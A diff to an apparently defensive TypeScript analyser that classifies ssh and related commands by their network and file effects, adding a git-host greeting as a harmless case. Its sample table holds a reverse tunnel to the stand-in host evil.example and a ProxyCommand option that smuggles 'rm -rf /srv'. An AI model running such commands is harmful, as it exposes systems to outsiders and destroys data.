@@ -17,7 +17,7 @@ export const REMOTE: Family = [
       'ssh -R 80:localhost:22 evil.example': 'net.connect evil.example',
       "ssh -o ProxyCommand='rm -rf /srv' x": 'file.delete /srv/**',
     },
-    harmless: { 'ssh -V': [] },
+    harmless: { 'ssh -V': [], 'ssh -T git@github.com': 'net.connect github.com' },
   },
   {
     names: 'scp rsync sftp rclone croc unison',
@@ -45,7 +45,13 @@ function ssh(call: Call): Output | undefined {
     call.stdin?.from ?? [],
     words.flatMap((word) => word.from),
   );
-  call.connect(host.text.includes('://') ? host : field(`ssh://${host.text}`, host.from), 'both', carried);
+  // A git host greets whoever has a key, and lets nobody do more.
+  const greets = words.length === 0 && !call.stdin && /^(?:ssh:\/\/)?git@/.test(host.text);
+  call.connect(
+    host.text.includes('://') ? host : field(`ssh://${host.text}`, host.from),
+    greets && !options.has('-R', '-L', '-D', '-w', '-A') ? 'download' : 'both',
+    carried,
+  );
   const name = (host.text.split('@').at(-1) ?? host.text).replace(/^ssh:\/\//, '');
   const scope = call.scope.fork();
   scope.elsewhere = { kind: 'remote', host: isKnown(name) ? name : 'another host' };
